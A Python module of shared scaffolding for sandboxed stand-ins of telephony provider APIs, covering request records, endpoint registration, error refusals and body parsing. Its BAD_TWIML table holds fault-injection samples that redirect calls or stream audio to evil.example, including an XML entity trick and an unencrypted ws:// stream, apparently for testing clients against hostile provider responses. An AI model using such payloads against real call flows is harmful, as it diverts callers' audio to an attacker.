"""What the stand-ins have in common: the request as they see it, the parts of an API, endpoints and refusals.

Nothing here knows a provider; each provider's paths, bodies and words are in its own package.
"""

from __future__ import annotations

import json
import secrets
import uuid
from abc import ABC, abstractmethod
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from email import message_from_bytes, policy
from functools import partial
from http import HTTPStatus
from typing import Any, ClassVar, Generic, Literal, Protocol, TypeAlias, TypeVar, cast
from urllib.parse import parse_qsl, urlsplit

from starlette.responses import JSONResponse, Response

Operation: TypeAlias = Literal["handoff", "check", "assistants", "numbers", "other"]
Clock: TypeAlias = Callable[[], datetime]
Json: TypeAlias = dict[str, Any]
RecordT = TypeVar("RecordT")
CustomerT_co = TypeVar("CustomerT_co", covariant=True)
HandlerT = TypeVar("HandlerT", bound=Callable[..., object])

BAD_TWIML: Mapping[str, str] = {
    "bad-twiml": "<Response><Say>Goodbye</Say><Redirect>https://evil.example/</Redirect></Response>",
    "doctype-twiml": '<!DOCTYPE r [<!ENTITY u "wss://evil.example/">]><Response><Connect><Stream url="&u;"/></Connect></Response>',
    "broken-twiml": '<Response><Connect><Stream url="wss://evil.example/x"></Connect>',
    "insecure-twiml": '<Response><Connect><Stream url="ws://evil.example/x/transport"/></Connect></Response>',
}
"""What a provider that answers with TwiML says under the faults of these names."""

_OWN_MACHINE = ("127.0.0.1", "localhost", "::1")


def utc_now() -> datetime:
    return datetime.now(UTC)


def iso(moment: datetime) -> str:
    """RFC 3339 in UTC with milliseconds, as the providers write times."""
    return moment.astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def new_id(prefix: str = "", digits: int = 32) -> str:
    """The prefix and random hexadecimal digits, as in the ids and keys of most providers."""
    return prefix + secrets.token_hex(digits // 2)


def new_uuid() -> str:
    return str(uuid.uuid4())


def new_number(area_code: int | str) -> str:
    """A North American phone number in that area code."""
    return f"+1{area_code}{secrets.randbelow(10**7):07d}"


def is_https(url: object) -> bool:
    """For a provider that calls https only; the sandbox's own machine needs no certificate."""
    parts = urlsplit(url) if isinstance(url, str) else None
    return parts is not None and (
        parts.scheme == "https" or (parts.scheme == "http" and parts.hostname in _OWN_MACHINE)
    )


class Refusal(Exception):  # noqa: N818  an answer, not a fault of ours
    """A stand-in declines a request; its API turns this into the provider's own error body."""

    def __init__(self, status: int, message: str | list[str] | None = None, code: int | None = None) -> None:
        super().__init__(status, message)
        self.status = status
        self.message = message
        self.code = code  # the provider's own number for the error, where it has one


@dataclass(frozen=True, slots=True)
class Asked:
    """A request that reached the sandbox. Holds whatever was sent, keys included: they are all fakes."""

    at: datetime
    provider: str
    operation: Operation
    method: str
    path: str  # below the provider's prefix, decoded
    parameters: Mapping[str, str]  # from the path
    query: Mapping[str, str]
    headers: Mapping[str, str]  # names in lower case
    raw: bytes
    body: Any = None  # JSON, a form's fields or a multipart form's parts; None for an empty or unreadable body

    @property
    def id(self) -> str:
        """Of the record that the path names."""
        return self.parameters["id"]

    def find(self, records: Mapping[str, RecordT], status: int = 404, message: str | None = None) -> RecordT:
        """The record that the path names; raises Refusal if it is not there."""
        found = records.get(self.id)
        if found is None:
            raise Refusal(status, message)
        return found

    def pop(self, records: dict[str, RecordT], status: int = 404, message: str | None = None) -> RecordT:
        """Likewise, and takes it away."""
        self.find(records, status, message)
        return records.pop(self.id)

    def json(self) -> Json:
        """The body as a JSON object; raises Refusal for anything else."""
        if not isinstance(self.body, dict):
            raise Refusal(400)
        return self.body

    def form(self) -> dict[str, str]:
        """The fields of a form body, the last value of each; empty without a body."""
        return dict(self.body) if isinstance(self.body, dict) else {}


def read_body(content_type: str, raw: bytes) -> Any:
    """JSON, the fields of a form, or the parts of a multipart form (see `_parts`); None where it is none of these."""
    if content_type.startswith("multipart/form-data"):
        return _parts(content_type, raw)
    if content_type.startswith("application/x-www-form-urlencoded"):
        return dict(parse_qsl(raw.decode("utf-8", "replace"), keep_blank_values=True))
    try:
        return json.loads(raw)
    except ValueError:
        return None


def _parts(content_type: str, raw: bytes) -> list[Json] | None:
    """Each part as {"name", "filename", "content_type", "content"}, text alone; filename null for a plain field."""
    whole = message_from_bytes(f"Content-Type: {content_type}\r\n\r\n".encode() + raw, policy=policy.HTTP)
    if not whole.is_multipart():
        return None
    return [
        {
            "name": part.get_param("name", header="content-disposition"),
            "filename": part.get_filename(),
            "content_type": part.get_content_type(),
            "content": cast(bytes, part.get_payload(decode=True)).decode("utf-8", "replace"),
        }
        for part in whole.iter_parts()
    ]


@dataclass(frozen=True, slots=True)
class Endpoint:
    """One operation of a provider's API. `handler` may raise Refusal. `operation` may depend on the query."""

    method: str
    path: str  # Starlette's path syntax, below the provider's prefix
    handler: Callable[[Asked], Response]
    operation: Operation | Callable[[Mapping[str, str]], Operation] = "other"

    def operation_of(self, query: Mapping[str, str]) -> Operation:
        return self.operation if isinstance(self.operation, str) else self.operation(query)


def endpoint(
    method: str,
    path: str = "",
    operation: Operation | Callable[[Mapping[str, str]], Operation] | None = None,
    status: int = 200,
) -> Callable[[HandlerT], HandlerT]:
    """Marks a Part's method as the handler of an operation, below the part's prefix; one method may have several.

    The method takes the customer that asks and the request. It returns the JSON of an answer with `status`, None for
    204, or a whole Response, and may raise Refusal.
    """

    def mark(handler: HandlerT) -> HandlerT:
        vars(handler).setdefault("marks", []).insert(0, (method, path, operation, status))
        return handler

    return mark


class Customers(Protocol[CustomerT_co]):
    """All customers of a stand-in."""

    def asking(self, asked: Asked) -> CustomerT_co:
        """The customer that asks. Raises Refusal: 401 for a wrong key, 403 for one that may not do this."""
        ...

    def __iter__(self) -> Iterator[CustomerT_co]: ...


class Part(Generic[CustomerT_co]):
    """A part of a provider's API: the methods marked with `endpoint`, over the customers that all its parts share."""

    prefix: ClassVar[str] = ""  # of the paths
    operation: ClassVar[Operation] = "other"  # of an endpoint that names none

    def __init__(self, customers: Customers[CustomerT_co], clock: Clock) -> None:
        self._customers = customers
        self._clock = clock

    def endpoints(self) -> Iterator[Endpoint]:
        members = [member for kind in reversed(type(self).__mro__) for member in vars(kind).items()]
        marks = {name: member.marks for name, member in members if hasattr(member, "marks")}
        for name, of_method in marks.items():
            for method, path, operation, status in of_method:
                answer = partial(self._answer, getattr(self, name), status)
                yield Endpoint(method, self.prefix + path, answer, operation or self.operation)

    def _answer(self, handler: Callable[[CustomerT_co, Asked], object], status: int, asked: Asked) -> Response:
        content = handler(self._customers.asking(asked), asked)
        if isinstance(content, Response):
            return content
        return Response(status_code=204) if content is None else JSONResponse(content, status)


class StandIn(ABC):
    """One provider's API: its parts, and the words of its errors."""

    name: ClassVar[str]
    vital: ClassVar[frozenset[str]]  # the fields without which an answer is useless to a caller of this API
    words: ClassVar[Mapping[str, Refusal]]  # its refusals for faults that have no status of their own
    messages: ClassVar[Mapping[int, str]]  # by status, for refusals without a message
    unfit: ClassVar[Json] = {}  # what the TwiML faults put in place of good values
    shown: ClassVar[Sequence[str]] = ()  # the records of its orgs, for people who look at the sandbox
    parts: Sequence[Part[Any]]
    orgs: Any = ()

    def endpoints(self) -> list[Endpoint]:
        return [endpoint for part in self.parts for endpoint in part.endpoints()]

    @abstractmethod
    def key_of(self, asked: Asked) -> str:
        """The key a request came with; empty if none."""

    @abstractmethod
    def describe_error(self, refusal: Refusal, message: str | list[str]) -> Json:
        """The provider's own error body."""

    def refuse(self, refusal: Refusal) -> Response:
        message = refusal.message or self.messages.get(refusal.status, HTTPStatus(refusal.status).phrase)
        return JSONResponse(self.describe_error(refusal, message), refusal.status)

    def bend(self, fault: str, answer: Json) -> Json:
        """A success as this provider would give it under a fault of its own kind; unchanged if it has none."""
        if not fault.endswith("-twiml"):
            return answer
        return answer | {name: value for name, value in self.unfit.items() if name in answer}

    def bend_document(self, fault: str, document: str) -> str:  # noqa: ARG002 - for those that answer with documents
        """Likewise for a success that is no JSON."""
        return document

    def far_ends(self) -> Mapping[tuple[str, str], Callable[..., Any]]:
        """Who takes legs, by the leg's kind and the host in its address (none in a number's). A SIP leg is answered
        with its SipAddress, others with their address and parameters.
        """
        return {}

    def summarize(self) -> list[Json]:
        """The ids of each org's records, and its calls with their state where they have one."""
        return [
            {
                "org": org.name,
                **{name: list(getattr(org, name)) for name in self.shown},
                "calls": {call_id: getattr(call, "state", None) for call_id, call in org.calls.items()},
            }
            for org in self.orgs
        ]
